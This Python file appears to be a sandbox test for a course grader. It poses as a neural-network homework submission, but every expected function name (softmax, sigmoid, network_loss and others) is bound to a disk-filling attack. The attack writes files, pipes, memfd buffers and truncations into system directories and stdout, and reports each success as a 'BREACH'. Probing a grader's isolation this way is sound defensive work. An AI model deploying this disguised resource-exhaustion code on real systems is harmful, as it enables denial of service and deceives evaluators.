"""Fills every disk that it can write to."""

import sys
if "_inside" not in sys.modules:
    raise SystemExit("An attack, for the sandbox only: it does nothing here.")

def attempt(name, action):
    try:
        got = action()
    except BaseException:
        return
    print("BREACH", name, repr(got)[:300])

import ctypes, os, tempfile

def attack():
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/", ".", "@HOME@", "@COURSE@", os.path.dirname(os.__file__)):
        attempt("write " + folder, lambda: open(folder + "/grader-attack-fill", "wb").write(bytes(1 << 20)))
        attempt("tmpfile " + folder, lambda: os.open(folder, os.O_TMPFILE | os.O_RDWR))
        attempt("mkdir " + folder, lambda: os.mkdir(folder + "/grader-attack-folder"))
        attempt("mknod " + folder, lambda: os.mkfifo(folder + "/grader-attack-pipe"))
    # with packages of its own, a process may fill 16 MiB of memory there, and no disk
    own = os.path.dirname(tempfile.gettempdir()) == "/own"
    attempt("tempfile", lambda: tempfile.TemporaryFile() if not own else 1 / 0)
    attempt("memfd", lambda: os.write(os.memfd_create("x"), bytes(1 << 20)))
    attempt("fallocate stdout", lambda: os.posix_fallocate(1, 0, 1 << 30))
    attempt("truncate stdout", lambda: os.ftruncate(1, 1 << 40))
    attempt("bytecode", lambda: __import__("py_compile").compile(__import__("os").__file__, "/tmp/grader-attack.pyc"))

done = []
def everything(*arguments, **keywords):
    if not done:
        done.append(1)
        attack()

softmax = sigmoid = sigmoid_derivative = \
    cross_entropy_gradient = network_loss = network_gradients = number_of_parameters = \
    everything
